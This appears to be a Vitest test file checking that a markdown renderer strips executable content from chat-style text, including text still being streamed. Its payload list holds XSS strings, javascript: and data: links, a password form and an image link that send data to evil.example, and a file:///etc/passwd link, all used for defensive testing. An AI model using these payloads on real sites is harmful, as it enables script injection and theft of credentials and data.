// @vitest-environment jsdom
import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { MarkdownView } from '../src/markdown';

/** All that a text may become, in the widget and in the console. */
const ELEMENTS = new Set(
  'A B BLOCKQUOTE BR CODE DIV EM H4 HR LI OL P PRE S SPAN TABLE TBODY TD TH THEAD TR UL'.split(' '),
);
const ATTRIBUTES = new Set('aria-label class href rel role start tabindex target'.split(' '));

/** One of each kind of what lists of attacks try. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\')"',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<iframe src=https://evil.example/login></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="\\x0Bjavascript:javascript:alert(1)" id="x">test</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">test</a>',
  '<b onmouseover=alert(1)>Sam</b>',
  '<form action=https://evil.example><input name=password></form>',
  '<style>*{background:url(https://evil.example/p)}</style>',
  '<base href=https://evil.example/><meta http-equiv=refresh content=0>',
  '<object data=x></object><embed src=x><math><mi//xlink:href="javascript:alert(1)">',
  '<!--[if<img src=x onerror=javascript:alert(1)//]> -->',
  '"`\'><script>\\x3Bjavascript:alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '![p](https://evil.example/p.png?d=secret)',
  '![p](javascript:alert(1))',
  '[x](javascript:alert(document.cookie))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html,<script>1</script>)',
  '[x](vbscript:x)',
  '[x](blob:https://evil.example/x)',
  '[x](file:///etc/passwd)',
  '[x]("onerror="alert(1))',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '[<img src=x onerror=alert(1)>](https://evil.example)',
  '<javascript:alert(1)>',
  '<https://evil.example/"onclick="alert(1)>',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
];

const attacks = readFileSync('../db/sample/injection.jsonl', 'utf8')
  .split('\n')
  .filter((line) => line !== '')
  .map((line) => (JSON.parse(line) as { text: string }).text);

const WRAPPINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `So **${text}** and *${text}*`,
  (text) => `- ${text}\n- ${text}`,
  (text) => `> ${text}`,
  (text) => `## ${text}`,
  (text) => `| a | b |\n|--|--|\n| ${text} | x |`,
  (text) => `\`${text}\``,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `[${text}](https://shop.example)`,
];

function expectHarmless(container: Element, text: string) {
  for (const node of container.querySelectorAll('*')) {
    expect(ELEMENTS, text).toContain(node.tagName);
    for (const { name } of node.attributes) expect(ATTRIBUTES, text).toContain(name);
    if (node instanceof HTMLAnchorElement) {
      expect(['https:', 'http:', 'mailto:'], text).toContain(node.protocol);
      expect(node.rel, text).toBe('noopener noreferrer nofollow');
    }
  }
}

test.each([...PAYLOADS, ...attacks])('%j becomes nothing that runs', (payload) => {
  for (const wrapped of WRAPPINGS.map((wrap) => wrap(payload))) {
    const container = document.createElement('div');
    new MarkdownView(container).update(wrapped, true);
    expectHarmless(container, wrapped);
  }
});

test.each(PAYLOADS)('nor does %j while it is still being written', (payload) => {
  const container = document.createElement('div');
  const view = new MarkdownView(container);
  for (let length = 1; length <= payload.length; length += 1) {
    view.update(payload.slice(0, length), false);
    expectHarmless(container, payload.slice(0, length));
  }
});
